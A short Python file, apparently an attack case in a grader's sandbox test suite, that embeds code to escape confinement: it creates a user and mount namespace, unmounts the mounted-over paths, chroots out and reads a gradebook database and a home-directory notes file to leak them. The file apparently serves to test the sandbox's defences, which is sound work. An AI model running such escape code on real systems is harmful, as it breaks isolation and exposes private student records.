"""In a user namespace of its own it is root, and takes away what was mounted over the files."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0:
    for line in reversed(open("/proc/self/mounts").readlines()):
        libc.umount2(line.split()[1].encode(), 2)
    libc.chroot(b"..")
for path in (COURSE + "/gradebook.db", HOME + "/notes.txt"):
    try:
        tell(open(path, "rb").read())
    except OSError:
        pass
"""
    ),
)
